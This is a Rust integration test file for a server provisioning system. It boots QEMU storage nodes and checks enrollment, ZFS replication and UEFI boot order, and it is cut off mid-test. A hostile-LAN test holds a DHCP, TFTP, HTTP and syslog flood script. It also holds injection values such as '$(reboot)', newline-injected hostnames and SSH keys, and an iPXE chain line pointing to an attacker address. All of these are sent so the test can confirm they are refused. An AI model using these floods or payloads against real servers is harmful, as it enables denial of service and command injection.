//! First-boot tier: QEMU nodes booted from a Debian 12 image (real kernel, mdadm RAID1
//! and XFS root, ZFS, bonding, VLANs, bridges) run the real late_command and agent:
//! plans applied, facts checked against the plan, enrollment into a redundancy group,
//! replication between members, refusals.

use anyhow::Result;
use rackseed::facts;
use rackseed_tests::browser::{Browser, test_output};
use rackseed_tests::qemu::{self, Vm};
use rackseed_tests::{ADMIN, Lab, LabConfig, Server, node_image, node_vm, wait_for};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

/// Adds a storage node and moves it to `installing` the way the installer's
/// early_command does, from the node's own leased address; returns its preseed URL.
fn add_storage_node(
    lab: &Lab,
    srv: &Server,
    mac: &str,
    host: &str,
    n: u8,
    rack: &str,
    installer_nic: Option<&str>,
) -> Result<String> {
    let mut vars: Value = serde_json::from_str(&node_vars(n))?;
    if let Some(nic) = installer_nic {
        vars["installer_nic"] = json!(nic);
    }
    let vars = vars.to_string();
    let ip = format!("192.0.2.{n}");
    srv.add_node(
        mac,
        host,
        "storage-node",
        &["--ip", &ip, "--failure-domain", rack, "--vars", &vars],
    )?;
    let node = lab.node_client(mac)?;
    let token = node.install_token(mac)?;
    let (code, _) = node.curl(&[
        "--data",
        "installer started (first-boot harness)",
        &format!("http://192.0.2.1:8080/install/{token}/events/early_command"),
    ])?;
    assert_eq!(code, 200);
    Ok(format!("http://192.0.2.1:8080/install/{token}/preseed.cfg"))
}

/// A hostile host on the provisioning LAN (`attacker`, 192.0.2.66): takes node1's boot
/// script by MAC, uses its install token (from the preseed URL the harness knows) for
/// files and events, floods DHCP with random MACs and malformed options, holds TFTP
/// sessions and idle HTTP connections, floods syslog. Each must be refused or
/// contained; returns the attacker for later steps.
fn hostile_lan_attacks<'a>(
    attacker: &'a rackseed_tests::Netns,
    srv: &Server,
    mac: &str,
    preseed_url: &str,
) -> Result<Attacker<'a>> {
    let a = Attacker { ns: attacker };
    let (code, script) = a.curl(&[&format!(
        "http://192.0.2.1:8080/boot/{}.ipxe",
        mac.replace(':', "-")
    )])?;
    let script = String::from_utf8_lossy(&script);
    assert!(
        !script.contains("/install/"),
        "a token reached the attacker (HTTP {code}): {script}"
    );
    let (code, body) = a.curl(&[preseed_url])?;
    assert_eq!(code, 404, "{}", String::from_utf8_lossy(&body));
    let events = preseed_url.replace("preseed.cfg", "events/error");
    let (code, _) = a.curl(&["--data", "disk gone\nchain http://192.0.2.66/x", &events])?;
    assert_eq!(code, 404);
    let late = preseed_url.replace("preseed.cfg", "late.sh");
    assert_eq!(
        a.curl(&[&late])?.0,
        404,
        "late.sh (the enrollment token) served"
    );
    let flood = r#"
import socket, struct, random, time
random.seed(66)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def discover(mac, extra):
    hdr = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000,
                      bytes(4), bytes(4), bytes(4), bytes(4), mac + bytes(10), bytes(64), bytes(128))
    v = b'PXEClient:Arch:00000:UNDI:002001'
    return hdr + bytes([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 60, len(v)]) + v + extra + bytes([255])
for i in range(400):
    s.sendto(discover(bytes([2, 0x66]) + random.getrandbits(32).to_bytes(4, 'big'), bytes([93, 2, 0, 0])), ('192.0.2.1', 67))
for i in range(40):
    s.sendto(discover(bytes([2, 0x67, 0, 0, 0, i]), bytes([94, 2, 1, 2])), ('192.0.2.1', 67))
t = []
for i in range(20):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b'\x00\x01undionly.kpxe\x00octet\x00timeout\x00255\x00windowsize\x0065535\x00', ('192.0.2.1', 69))
    t.append(u)
held = []
for i in range(50):
    c = socket.create_connection(('192.0.2.1', 8080))
    c.send(b'GET /healthz HTTP/1.1\r\nHost: x\r\n')
    held.append(c)
l = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3000):
    l.sendto(b'<13>flood ' + b'A' * 2000 + b'\n$(reboot)', ('192.0.2.1', 514))
time.sleep(2)
"#;
    let path = srv.dir.path().join("attack.py");
    std::fs::write(&path, flood)?;
    rackseed_tests::run(attacker.cmd("python3").arg(&path))?;
    // rackseed still answers, and is healthy.
    let (code, _) = srv.curl(&["http://192.0.2.1:8080/healthz"])?;
    assert_eq!(code, 200);
    Ok(a)
}

/// The attacker's namespace.
struct Attacker<'a> {
    ns: &'a rackseed_tests::Netns,
}

impl Attacker<'_> {
    fn curl(&self, args: &[&str]) -> Result<(u16, Vec<u8>)> {
        rackseed_tests::curl_in(&self.ns.name, args)
    }
}

/// The per-node addresses the storage-node profile asks for (`method: node`).
fn node_vars(n: u8) -> String {
    json!({"addresses": {"br-mgmt": format!("198.51.100.{n}"), "br-storage": format!("203.0.113.{n}")}}).to_string()
}

fn wait_login(vm: &Vm) -> Result<()> {
    // The image logs root in on the serial console; wait for a prompt that answers.
    wait_for(
        &format!("{} shell", vm.name),
        Duration::from_secs(600),
        Duration::from_secs(5),
        || vm.shell("true", Duration::from_secs(8)).ok(),
    )
    .map(|_| ())
}

fn enroll_post(srv: &Server, body: &Value) -> Result<(u16, Value)> {
    let file = srv.dir.path().join("enroll.json");
    std::fs::write(&file, body.to_string())?;
    let (code, out) = srv.curl(&[
        "-H",
        "Content-Type: application/json",
        "--data-binary",
        &format!("@{}", file.display()),
        "http://192.0.2.1:8080/enroll",
    ])?;
    Ok((code, serde_json::from_slice(&out).unwrap_or(Value::Null)))
}

/// Prints the VMs' consoles and the server log when the test fails (by error or panic).
struct OnFailure<'a> {
    vms: Vec<&'a Vm>,
    srv: &'a Server,
    passed: bool,
}

impl Drop for OnFailure<'_> {
    fn drop(&mut self) {
        if self.passed {
            return;
        }
        for vm in &self.vms {
            eprintln!(
                "---- console of {} ----\n{}",
                vm.name,
                rackseed_tests::tail(&vm.serial(), 60)
            );
            let journal = vm.shell("journalctl --no-pager -o cat -u rackseed-agent -u rackseed-agent-sync | tail -n 60", Duration::from_secs(60));
            eprintln!(
                "---- agent journal of {} ----\n{}",
                vm.name,
                journal.unwrap_or_else(|e| e.to_string())
            );
        }
        eprintln!(
            "---- rackseed log ----\n{}",
            rackseed_tests::tail(&self.srv.log_text(), 150)
        );
    }
}

#[test]
fn storage_nodes_enroll_into_a_group_and_replicate() -> Result<()> {
    let _q = qemu::exclusive();
    let image = node_image()?;
    let lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab().with("group-rg1"))?;
    let (m1, m2, m3) = (
        "52:54:00:20:00:01",
        "52:54:00:20:00:02",
        "52:54:00:20:00:03",
    );
    let p1 = add_storage_node(&lab, &srv, m1, "node1", 11, "rack-a", None)?;
    // node2 PXE-boots from m2 and installs from its other NIC (its `installer_nic`):
    // the harness's stand-in for the installer runs on the image's eth0, and rackseed
    // serves the install files to the address leased to either NIC, to no other.
    let p2 = add_storage_node(
        &lab,
        &srv,
        m2,
        "node2",
        12,
        "rack-b",
        Some("52:54:00:21:00:02"),
    )?;
    // node3 has one data disk missing: its facts cannot match the plan.
    let p3 = add_storage_node(&lab, &srv, m3, "node3", 13, "rack-c", None)?;
    let started = Instant::now();
    let (vm1, _d1) = node_vm(&lab, &image, "node1", &[m1, "52:54:00:21:00:01"], 4, &p1)?;
    // node2's NICs enumerate the other way round: its boot NIC m2 is eth1 here.
    let (vm2, _d2) = node_vm(&lab, &image, "node2", &["52:54:00:21:00:02", m2], 4, &p2)?;
    let (vm3, _d3) = node_vm(&lab, &image, "node3", &[m3, "52:54:00:21:00:03"], 3, &p3)?;
    let mut report = OnFailure {
        vms: vec![&vm1, &vm2, &vm3],
        srv: &srv,
        passed: false,
    };
    // While the nodes boot, apply plans and enroll, a hostile host on the provisioning
    // bridge tries what the hostile-LAN issue lists; the nodes must not notice.
    let attacker = lab.host("52:54:00:66:00:01", Some("192.0.2.66/24"))?;
    let hostile = hostile_lan_attacks(&attacker, &srv, m1, &p1)?;

    for host in ["node1", "node2"] {
        srv.wait_state(host, "enrolled", Duration::from_secs(1500))?;
    }
    eprintln!(
        "node1 and node2 enrolled {:.0?} after power-on",
        started.elapsed()
    );

    // Inside the VMs: the plans were applied for real.
    for (vm, other, mac, prov) in [
        (&vm1, "203.0.113.12", m1, "192.0.2.11"),
        (&vm2, "203.0.113.11", m2, "192.0.2.12"),
    ] {
        wait_login(vm)?;
        // The enrollment token is readable by root only.
        let mode = vm.shell(
            "stat -c '%a %U' /etc/rackseed/agent.toml",
            Duration::from_secs(30),
        )?;
        assert!(mode.contains("600 root"), "{} agent.toml: {mode}", vm.name);
        // The bond takes the provisioning MAC whatever the NIC order, so the node keeps
        // its DHCP reservation.
        let addr = vm.shell(
            "cat /sys/class/net/bond0/address; ip -4 -o addr show dev bond0",
            Duration::from_secs(30),
        )?;
        assert!(
            addr.contains(mac) && addr.contains(&format!("inet {prov}/")),
            "{} bond0: {addr}",
            vm.name
        );
        let pools =
            facts::parse_zpool_status(&vm.shell("zpool status -P tank", Duration::from_secs(60))?);
        assert_eq!(pools.len(), 1);
        assert_eq!(pools[0].health, "ONLINE");
        let layout: Vec<(&str, usize, &str)> = pools[0]
            .vdevs
            .iter()
            .map(|v| (v.kind.as_str(), v.disks.len(), v.state.as_str()))
            .collect();
        assert_eq!(
            layout,
            vec![("mirror", 2, "ONLINE"), ("mirror", 2, "ONLINE")],
            "{} zpool layout",
            vm.name
        );
        let bond = facts::parse_bonding(
            "bond0",
            &vm.shell("cat /proc/net/bonding/bond0", Duration::from_secs(30))?,
        );
        assert_eq!(bond.mode, "802.3ad");
        assert_eq!(bond.slaves, vec!["eth0", "eth1"], "{} bond slaves", vm.name);
        for br in ["br-mgmt", "br-storage", "br-guest"] {
            let ports = vm.shell(
                &format!("ls /sys/class/net/{br}/brif"),
                Duration::from_secs(30),
            )?;
            assert!(
                !ports.trim().is_empty(),
                "{} bridge {br} has no ports",
                vm.name
            );
        }
        let vlans = facts::parse_vlan_config(
            &vm.shell("cat /proc/net/vlan/config", Duration::from_secs(30))?,
        );
        assert_eq!(
            vlans.iter().map(|v| v.id).collect::<Vec<_>>(),
            vec![10, 20, 30]
        );
        vm.shell(
            &format!("ping -c 3 -W 3 -I br-storage {other}"),
            Duration::from_secs(60),
        )?;
    }

    // In rackseed: both enrolled members of rg1, each replicating to the other.
    let g = srv.api("/api/groups/rg1")?;
    let members: Vec<&str> = g["members"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["state"] == "enrolled")
        .filter_map(|m| m["hostname"].as_str())
        .collect();
    assert_eq!(members, vec!["node1", "node2"], "{g}");
    assert_eq!(
        g["replication"],
        json!({"node1": "node2", "node2": "node1"}),
        "{g}"
    );
    let n1 = srv.api("/api/nodes/node1")?;
    assert_eq!(n1["facts"]["root"]["fstype"], "xfs", "{n1}");
    assert_eq!(n1["facts"]["root"]["md"]["level"], "raid1", "{n1}");

    // Each member's view (applied by its agent) names the other as its peer.
    let v1: Value = serde_json::from_str(
        &vm1.shell("cat /var/lib/rackseed/view.json", Duration::from_secs(30))?,
    )?;
    assert_eq!(v1["replication"]["push_to"], "node2", "{v1}");
    assert_eq!(
        v1["replication"]["accept_from"][0]["hostname"], "node2",
        "{v1}"
    );

    // Replication: a file written on node1 appears in node2's replica after one run.
    // The timer's first run (OnBootSec=2min) may already be under way; its snapshot can
    // predate the file, and `systemctl start` would only join it. So wait until no run
    // is active, then start one whose snapshot is taken after the write.
    vm1.shell(
        "echo hello-from-node1 > /tank/data/hello.txt && sync \
         && for i in $(seq 240); do [ \"$(systemctl show -p ActiveState --value rackseed-replicate.service)\" = activating ] || break; sleep 1; done \
         && systemctl start rackseed-replicate.service",
        Duration::from_secs(300),
    )?;
    let replica = vm2.shell("zfs list -H -o name tank/replicas/node1/data && zfs mount -a; cat /tank/replicas/node1/data/hello.txt", Duration::from_secs(60))?;
    assert!(
        replica.contains("tank/replicas/node1/data") && replica.contains("hello-from-node1"),
        "replica on node2: {replica}"
    );
    let t1 = srv.timeline("node1")?;
    assert!(
        t1.iter()
            .any(|(k, m)| k == "replication" && m.contains("tank/data to node2")),
        "{t1:?}"
    );

    // The console's group page: both members' last replication; when node2's
    // replication stops, it falls behind (two intervals of 1 min) and is flagged, on the
    // page, on its timeline and in /metrics.
    let (code, v) = srv.api_post(
        "/api/users",
        &json!({"name": "tech", "role": "admin", "password": "tech-password-1"}),
    )?;
    assert_eq!(code, 201, "{v}");
    let mut b = Browser::start(&srv.ns, &test_output("firstboot")?)?;
    b.get(&format!("{ADMIN}/ui/login"))?;
    b.type_in("#user", "tech")?;
    b.type_in("#password", "tech-password-1")?;
    b.click("#login-button")?;
    b.wait_text("#who", "tech (admin)", 10)?;
    let groups = format!("{ADMIN}/ui/groups");
    for m in ["node1", "node2"] {
        b.wait_reloading(
            &groups,
            &format!("#member-{m} .last-replication"),
            "ok",
            240,
        )?;
    }
    vm2.shell(
        "systemctl stop rackseed-replicate.timer; systemctl kill rackseed-replicate.service; systemctl stop rackseed-replicate.service; true",
        Duration::from_secs(60),
    )?;
    let health = b.wait_reloading(&groups, "#member-node2 .health", "behind", 420)?;
    assert!(
        health.contains("replication of tank/data is behind"),
        "{health}"
    );
    assert_eq!(b.attr("#member-node2", "data-status")?, "behind");
    b.screenshot("groups")?;
    let t2 = wait_for(
        "node2's replication_lag event",
        Duration::from_secs(60),
        Duration::from_secs(3),
        || {
            srv.timeline("node2")
                .ok()
                .filter(|t| t.iter().any(|(k, _)| k == "replication_lag"))
        },
    )?;
    assert!(
        t2.iter()
            .any(|(k, m)| k == "replication_lag" && m.contains("the group replicates every 1 min")),
        "{t2:?}"
    );
    let m = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    let lag = m
        .lines()
        .find_map(|l| {
            l.strip_prefix("rackseed_replication_lag_seconds{group=\"rg1\",node=\"node2\"} ")
        })
        .and_then(|v| v.parse::<i64>().ok());
    assert!(
        lag.is_some_and(|l| l > 120),
        "node2 lag in /metrics: {lag:?}"
    );
    assert!(
        rackseed_tests::metric_in(&m, "replication_lag_alarms_total") >= 1,
        "{m}"
    );
    drop(b);

    // Membership change: a new member shows up in the others' views.
    srv.add_node(
        "52:54:00:20:00:09",
        "node9",
        "storage-node",
        &[
            "--ready",
            "--failure-domain",
            "rack-d",
            "--vars",
            &node_vars(19),
        ],
    )?;
    srv.cli(&["group", "add", "rg1", "node9"])?;
    wait_for(
        "node1's view to list node9",
        Duration::from_secs(120),
        Duration::from_secs(3),
        || {
            vm1.shell("cat /var/lib/rackseed/view.json", Duration::from_secs(30))
                .ok()
                .filter(|v| v.contains("\"node9\""))
        },
    )?;
    // Placement: a member in a rack already used is refused with the reason.
    srv.add_node(
        "52:54:00:20:00:0a",
        "node10",
        "storage-node",
        &[
            "--ready",
            "--failure-domain",
            "rack-a",
            "--vars",
            &node_vars(20),
        ],
    )?;
    let (code, v) = srv.api_post("/api/groups/rg1/members", &json!({"node": "node10"}))?;
    assert_eq!(code, 409);
    assert_eq!(
        v["error"],
        "placement refused: node10 and node1 share rack `rack-a`; members of group rg1 must be in different racks"
    );

    // Refusals, with the agents' real tokens read from the nodes.
    let token = |vm: &Vm| -> Result<String> {
        let t = vm.shell(
            "sed -n 's/^enroll_token = \"\\(.*\\)\"$/\\1/p' /etc/rackseed/agent.toml",
            Duration::from_secs(30),
        )?;
        Ok(t.trim().to_string())
    };
    let (t1, t2) = (token(&vm1)?, token(&vm2)?);
    let facts1 = n1["facts"].clone();
    let (_key, csr) = rackseed::ca::node_key_and_csr("node1")?;
    let body = |t: &str, mac: &str| json!({"token": t, "node": mac, "facts": facts1, "csr": csr, "replication_key": null});
    let (code, v) = enroll_post(&srv, &body(&t1, m1))?;
    assert_eq!(
        (code, v["error"].as_str().unwrap_or("")),
        (403, "enrollment refused: enrollment token was already used")
    );
    let (code, v) = enroll_post(&srv, &body(&t2, m1))?;
    assert_eq!(
        (code, v["error"].as_str().unwrap_or("")),
        (
            403,
            "enrollment refused: enrollment token belongs to another node"
        )
    );
    assert_eq!(srv.node_state("node1")?, "enrolled");

    // node3 (three data disks) was refused with the exact mismatch, and is still installed.
    let t3 = wait_for(
        "node3's enrollment refusal",
        Duration::from_secs(600),
        Duration::from_secs(3),
        || {
            srv.timeline("node3")
                .ok()
                .filter(|t| t.iter().any(|(k, _)| k == "enroll_refused"))
        },
    )?;
    let refusal = t3
        .iter()
        .find(|(k, _)| k == "enroll_refused")
        .map(|(_, m)| m.clone())
        .unwrap_or_default();
    assert!(refusal.contains("zpool tank"), "{refusal}");
    assert_eq!(srv.node_state("node3")?, "installed");

    // A leaked enrollment token (node3's, read from the inventory) used from the
    // attacker with facts carrying shell and line breaks: refused on the facts, the
    // token not used up, node3 still installed.
    let token3 = rackseed_tests::sh(&format!(
        "sqlite3 {} \"SELECT t.token FROM tokens t JOIN nodes n ON n.id = t.node_id WHERE n.hostname = 'node3' AND t.kind = 'enroll' AND t.used_at IS NULL\"",
        srv.dir.path().join("data/inventory.db").display()
    ))?;
    let body = json!({
        "token": token3.trim(),
        "node": m3,
        "csr": "-----BEGIN CERTIFICATE REQUEST-----\nx\n-----END CERTIFICATE REQUEST-----\n",
        "replication_key": "ssh-ed25519 AAAA\nssh-ed25519 BBBB root@evil",
        "facts": {
            "hostname": "node3\nevil",
            "machine_id": "$(reboot)",
            "smbios_uuid": null,
            "root": {"source": "/dev/md0", "fstype": "xfs"},
            "md_arrays": [], "pools": [], "bonds": [], "vlans": [], "bridges": [],
            "interfaces": [{"name": "eth0", "mac": m3, "mtu": 1500, "up": true}],
            "addresses": [{"iface": "br-storage", "cidr": "203.0.113.13\" ssh-rsa AAAA evil"}],
            "ssh_host_keys": []
        }
    });
    let file = srv.dir.path().join("hostile-enroll.json");
    std::fs::write(&file, body.to_string())?;
    let (code, out) = hostile.curl(&[
        "-H",
        "Content-Type: application/json",
        "--data-binary",
        &format!("@{}", file.display()),
        "http://192.0.2.1:8080/enroll",
    ])?;
    let out = String::from_utf8_lossy(&out);
    assert_eq!(code, 400, "{out}");
    assert!(
        out.contains("the facts cannot be accepted") && out.contains("control character"),
        "{out}"
    );
    assert_eq!(srv.node_state("node3")?, "installed");
    let still = rackseed_tests::sh(&format!(
        "sqlite3 {} \"SELECT COUNT(*) FROM tokens WHERE token = '{}' AND used_at IS NULL\"",
        srv.dir.path().join("data/inventory.db").display(),
        token3.trim()
    ))?;
    assert_eq!(still.trim(), "1", "a refused enrollment used up the token");
    // The attacks were contained and are visible.
    let m = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    let metric = |name: &str| rackseed_tests::metric_in(&m, name);
    assert!(metric("token_refused_total") >= 2, "{m}");
    assert!(metric("dhcp_discover_limited_total") >= 100, "{m}");
    assert!(metric("dhcp_malformed_total") >= 20, "{m}");
    // UDP drops part of a 3,000-line burst; what arrives is counted and held within its cap.
    assert!(metric("syslog_unattributed_total") >= 100, "{m}");
    assert!(
        srv.timeline("node1")?
            .iter()
            .any(|(k, msg)| k == "refused" && msg.contains("to 192.0.2.66")),
        "no refusal on node1's timeline"
    );
    eprintln!(
        "first-boot test done {:.0?} after power-on; node3: {refusal}",
        started.elapsed()
    );
    report.passed = true;
    Ok(())
}

/// Debian's signed shim and GRUB for an installed system's EFI system partition
/// (`shimx64.efi`, `grubx64.efi`), from the packages this host's APT sources offer,
/// cached outside the work tree.
fn efi_loaders() -> Result<std::path::PathBuf> {
    use anyhow::Context as _;
    use rackseed_tests::run;
    use std::process::Command;
    let dir = std::path::PathBuf::from("/var/cache/rackseed-tests/efi-loaders");
    if dir.join("DONE").is_file() {
        return Ok(dir);
    }
    let work = dir.with_extension("tmp");
    let _ = std::fs::remove_dir_all(&work);
    std::fs::create_dir_all(&work)?;
    run(Command::new("apt-get")
        .current_dir(&work)
        .args(["-q", "-o", "APT::Sandbox::User=root", "download"])
        .args(["shim-signed", "grub-efi-amd64-signed"]))?;
    for deb in std::fs::read_dir(&work)? {
        let deb = deb?.path();
        if deb.extension().is_some_and(|e| e == "deb") {
            run(Command::new("dpkg-deb")
                .arg("-x")
                .arg(&deb)
                .arg(work.join("root")))?;
        }
    }
    for (from, to) in [
        ("usr/lib/shim/shimx64.efi.signed", "shimx64.efi"),
        (
            "usr/lib/grub/x86_64-efi-signed/grubx64.efi.signed",
            "grubx64.efi",
        ),
    ] {
        std::fs::copy(work.join("root").join(from), work.join(to))
            .with_context(|| format!("{from} is not in the downloaded packages"))?;
    }
    std::fs::write(work.join("DONE"), "")?;
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::rename(&work, &dir)?;
    Ok(dir)
}

/// A disk holding an EFI system partition the way a Debian install leaves it: the
/// signed shim and GRUB in `/EFI/debian`, with a `grub.cfg` that boots the node image's
/// kernel (kept on the ESP here, as the image's root is XFS on RAID1). Made without
/// mounting anything: a FAT image (mkfs.vfat, mmd, mcopy) written into partition 1 of
/// a GPT disk (sgdisk).
fn esp_disk(dir: &std::path::Path, image: &std::path::Path) -> Result<std::path::PathBuf> {
    use rackseed_tests::run;
    use std::process::Command;
    let loaders = efi_loaders()?;
    let fat = dir.join("esp.fat");
    let _ = std::fs::remove_file(&fat);
    run(Command::new("mkfs.vfat")
        .args(["-F", "32", "-n", "ESP", "-C"])
        .arg(&fat)
        .arg("196608"))?;
    let cmdline = std::fs::read_to_string(image.join("kernel-cmdline"))?;
    let grub_cfg = rackseed_tests::write_file(
        dir,
        "grub.cfg",
        &format!(
            "search --no-floppy --file --set=root /vmlinuz\necho 'installed system: loading its kernel'\nlinux /vmlinuz {}\ninitrd /initrd.img\nboot\n",
            cmdline.trim()
        ),
    )?;
    run(Command::new("mmd")
        .arg("-i")
        .arg(&fat)
        .args(["::/EFI", "::/EFI/debian"]))?;
    for (from, to) in [
        (image.join("vmlinuz"), "::/vmlinuz"),
        (image.join("initrd.img"), "::/initrd.img"),
        (loaders.join("shimx64.efi"), "::/EFI/debian/shimx64.efi"),
        (loaders.join("grubx64.efi"), "::/EFI/debian/grubx64.efi"),
        (grub_cfg, "::/EFI/debian/grub.cfg"),
    ] {
        run(Command::new("mcopy").arg("-i").arg(&fat).arg(from).arg(to))?;
    }
    let disk = dir.join("esp.raw");
    let f = std::fs::File::create(&disk)?;
    f.set_len((192 + 2) << 20)?;
    drop(f);
    run(Command::new("sgdisk")
        .args(["-n", "1:2048:+192M", "-t", "1:ef00", "-c", "1:EFI System"])
        .arg(&disk))?;
    run(Command::new("dd")
        .arg(format!("if={}", fat.display()))
        .arg(format!("of={}", disk.display()))
        .args(["bs=1M", "seek=1", "conv=notrunc", "status=none"]))?;
    std::fs::remove_file(&fat)?;
    Ok(disk)
}

/// An installed UEFI node stays under rackseed's control. Its disks hold the system
/// and an EFI system partition; its boot entry is created the way an install leaves
/// it (`efibootmgr -c`, which puts it first in BootOrder); the node's real
/// `rackseed-esp-sync` (as late_command runs it) puts PXE back in front, followed by
/// the installed system's entry, in the firmware's own NVRAM. On the next power-on the
/// firmware asks rackseed first and is told to boot locally (GRUB of the signed chain
/// hands back to the firmware); after `reprovision`, the next power-on reaches the
/// installer with no change at the console.
#[test]
fn installed_uefi_node_keeps_network_boot_first_and_can_be_reprovisioned() -> Result<()> {
    let _q = qemu::exclusive();
    let image = node_image()?;
    let lab = Lab::new()?;
    // The default UEFI chain with authoritative DHCP: shim → GRUB.
    let cfg = LabConfig::lab();
    let srv = Server::start(&lab, &cfg)?;
    let (mac, host) = ("52:54:00:23:00:01", "uefi9");
    srv.add_node(mac, host, "lab-single-disk", &["--ip", "192.0.2.31"])?;
    // The install token, as the node's own machine is served it.
    let token = lab.node_client(mac)?.install_token(mac)?;
    let dir = tempfile::Builder::new()
        .prefix("node-uefi9-")
        .tempdir_in("/var/tmp")?;
    let mut disks = Vec::new();
    for (i, root) in ["root-a.qcow2", "root-b.qcow2"].iter().enumerate() {
        let p = dir.path().join(format!("root{i}.qcow2"));
        qemu::qcow2(&p, "", Some(&image.join(root)))?;
        disks.push(qemu::Disk::new(
            p,
            qemu::DiskBus::Virtio,
            &format!("rsdisk{i}"),
        ));
    }
    disks.push(qemu::Disk::new(
        esp_disk(dir.path(), &image)?,
        qemu::DiskBus::Virtio,
        "rsesp",
    ));
    let tap = lab.tap()?;
    let spec = |kernel| qemu::VmSpec {
        name: host.into(),
        memory_mb: 1536,
        cpus: 1,
        firmware: qemu::Firmware::Uefi,
        nics: vec![qemu::Nic {
            tap: tap.clone(),
            mac: mac.into(),
            model: qemu::NicModel::Virtio,
            // The firmware's own boot order decides (no bootindex from QEMU).
            boot: false,
        }],
        disks: disks.clone(),
        kernel,
        uuid: None,
        serial: None,
        vars: Some(dir.path().join("OVMF_VARS.fd")),
        ipv4_pxe_only: true,
    };
    let cmdline = std::fs::read_to_string(image.join("kernel-cmdline"))?;

    // The machine's first power-on: the firmware creates its network boot entries and
    // PXE-boots (the installer's start is not needed here: stop at its DHCP).
    {
        let vm = Vm::start(&lab.srv, &spec(None))?;
        wait_for(
            "the firmware's PXE request",
            Duration::from_secs(300),
            Duration::from_secs(1),
            || {
                srv.timeline(host).ok().and_then(|t| {
                    t.iter()
                        .any(|(k, m)| k == "dhcp" && m.contains("efi-x64"))
                        .then_some(())
                })
            },
        )
        .map_err(|e| {
            anyhow::anyhow!("{e}\nconsole:\n{}", rackseed_tests::tail(&vm.serial(), 30))
        })?;
    }
    // The installer has started (the install files are served to installing nodes).
    let (code, _) = lab.node_client(mac)?.curl(&[
        "--data",
        "installer started (first-boot harness)",
        &format!("http://192.0.2.1:8080/install/{token}/events/early_command"),
    ])?;
    assert_eq!(code, 200);

    // The end of the install: the system on disk, its boot entry first, then
    // rackseed-esp-sync as late_command runs it.
    {
        let vm = Vm::start(
            &lab.srv,
            &spec(Some((
                image.join("vmlinuz"),
                image.join("initrd.img"),
                cmdline.trim().to_string(),
            ))),
        )?;
        wait_login(&vm)?;
        let created = vm.shell(
            "efibootmgr -c -d /dev/vdc -p 1 -L debian -l '\\EFI\\debian\\shimx64.efi' >/dev/null && efibootmgr",
            Duration::from_secs(60),
        )?;
        let order = |text: &str| {
            text.lines()
                .find_map(|l| l.strip_prefix("BootOrder: "))
                .map(|o| o.trim().to_string())
                .unwrap_or_default()
        };
        let entry = |text: &str, label: &str| {
            text.lines()
                .find(|l| l.contains(label))
                .and_then(|l| l.get(4..8))
                .map(str::to_string)
                .unwrap_or_default()
        };
        let debian = entry(&created, " debian");
        assert!(
            order(&created).starts_with(&debian) && !debian.is_empty(),
            "efibootmgr -c did not put the disk first: {created}"
        );
        let synced = vm.shell(
            &format!(
                "mkdir -p /boot/efi && mount /dev/vdc1 /boot/efi && wget -q -O /tmp/esp-sync.sh http://192.0.2.1:8080/install/{token}/esp-sync.sh && sh /tmp/esp-sync.sh && efibootmgr -v"
            ),
            Duration::from_secs(120),
        )?;
        assert!(synced.contains("boot order: network first ("), "{synced}");
        let new_order = order(&synced);
        eprintln!("{host}: after rackseed-esp-sync:\n{synced}");
        let first = new_order.split(',').next().unwrap_or_default().to_string();
        let first_line = synced
            .lines()
            .find(|l| l.starts_with(&format!("Boot{first}")))
            .unwrap_or_default();
        assert!(
            first_line.contains("MAC(") || first_line.contains("PXE"),
            "the first entry is not network boot: {first_line}\n{synced}"
        );
        // PXE entries, then the installed system's entry, then the rest.
        let kinds: Vec<&str> = new_order
            .split(',')
            .map(|n| {
                let line = synced
                    .lines()
                    .find(|l| l.starts_with(&format!("Boot{n}")))
                    .unwrap_or_default();
                if line.contains("Uri(") {
                    "other"
                } else if line.contains("MAC(") {
                    "pxe"
                } else if line.contains("HD(") {
                    "disk"
                } else {
                    "other"
                }
            })
            .collect();
        let pxe_count = kinds.iter().take_while(|k| **k == "pxe").count();
        assert!(pxe_count >= 1, "{new_order}: {kinds:?}");
        assert_eq!(
            new_order.split(',').nth(pxe_count),
            Some(debian.as_str()),
            "the installed system's entry does not follow the PXE entries: {new_order} {kinds:?}"
        );
        vm.shell("sync; umount /boot/efi", Duration::from_secs(30))?;
        // The installer reports late_command: the node is installed.
        let (code, _) = vm
            .shell(
                &format!("wget -q -O /dev/null --post-data 'late_command done (first-boot harness)' http://192.0.2.1:8080/install/{token}/events/late_command && echo posted"),
                Duration::from_secs(30),
            )
            .map(|out| (if out.contains("posted") { 200 } else { 0 }, out))?;
        assert_eq!(code, 200);
        let _ = vm.shell("systemctl poweroff", Duration::from_secs(5));
    }
    assert_eq!(srv.node_state(host)?, "installed");

    // Power on from the firmware: network first, rackseed says "local disk", the disk
    // entry boots the system.
    let vm = Vm::start(&lab.srv, &spec(None))?;
    wait_for(
        "the local-boot answer",
        Duration::from_secs(300),
        Duration::from_secs(2),
        || {
            srv.timeline(host).ok().and_then(|t| {
                t.iter()
                    .any(|(k, m)| k == "grub" && m.contains("boot from local disk"))
                    .then_some(())
            })
        },
    )?;
    // The network GRUB chainloads the disk's shim, which loads the disk's GRUB, which
    // boots the installed system to its login.
    vm.wait_serial("booting from local disk", Duration::from_secs(120))?;
    vm.wait_serial("chainloading (hd", Duration::from_secs(60))?;
    vm.wait_serial(
        "installed system: loading its kernel",
        Duration::from_secs(120),
    )
    .map_err(|e| anyhow::anyhow!("{e}\nconsole:\n{}", rackseed_tests::tail(&vm.serial(), 30)))?;
    wait_login(&vm)?;
    let booted = vm.shell(
        "cat /proc/cmdline; efibootmgr | grep BootCurrent",
        Duration::from_secs(30),
    )?;
    assert!(booted.contains(cmdline.trim()), "{booted}");
    drop(vm);

    // Reprovision, then power the machine on again (as its BMC would): it asks
    // rackseed first and installs, with no change at its console.
    srv.cli(&["node", "reprovision", host])?;
    let vm = Vm::start(&lab.srv, &spec(None))?;
    srv.wait_state(host, "installing", Duration::from_secs(600))
        .map_err(|e| {
